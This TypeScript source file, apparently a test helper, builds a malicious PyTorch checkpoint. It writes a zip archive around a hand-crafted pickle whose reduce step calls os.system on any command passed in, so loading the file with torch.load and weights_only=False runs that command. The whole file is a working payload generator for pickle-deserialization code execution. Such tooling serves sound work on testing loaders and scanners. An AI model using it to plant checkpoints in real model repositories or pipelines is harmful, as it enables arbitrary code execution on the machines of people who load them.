import { crc32 } from 'node:zlib'

const u16 = (value: number): Buffer => Buffer.from(Uint16Array.of(value).buffer)
const u32 = (value: number): Buffer => Buffer.from(Uint32Array.of(value).buffer)

/**
 * What `torch.save` writes of an object whose `__reduce__` returns `(os.system, (command,))`: whoever loads it with
 * `torch.load(…, weights_only=False)` runs the command. (Python itself names the function's own module, `posix` or `nt`.)
 */
export function maliciousCheckpoint(command: string): Buffer {
  const pickle = Buffer.concat([
    Buffer.from('\x80\x02cos\nsystem\nX', 'latin1'),
    u32(Buffer.byteLength(command)),
    Buffer.from(command),
    Buffer.from('\x85R.', 'latin1'),
  ])
  return zip({
    'malicious/data.pkl': pickle,
    'malicious/byteorder': Buffer.from('little'),
    'malicious/version': Buffer.from('3\n'),
  })
}

/** An archive of stored files (APPNOTE.TXT 4.3). */
function zip(files: Readonly<Record<string, Buffer>>): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const [name, content] of Object.entries(files)) {
    const size = u32(content.length)
    // Version 2.0, no flags, stored, no time, then the sums and lengths.
    const facts = Buffer.concat([u16(20), u16(0), u16(0), u32(0), u32(crc32(content)), size, size, u16(name.length), u16(0)]) // prettier-ignore
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), facts, Buffer.from(name), content])
    locals.push(local)
    central.push(Buffer.from('PK\x01\x02'), u16(20), facts, Buffer.alloc(10), u32(at), Buffer.from(name)) // prettier-ignore
    at += local.length
  }
  const directory = Buffer.concat(central)
  const count = u16(locals.length)
  const end = [Buffer.from('PK\x05\x06'), u32(0), count, count, u32(directory.length), u32(at), u16(0)] // prettier-ignore
  return Buffer.concat([...locals, directory, ...end])
}
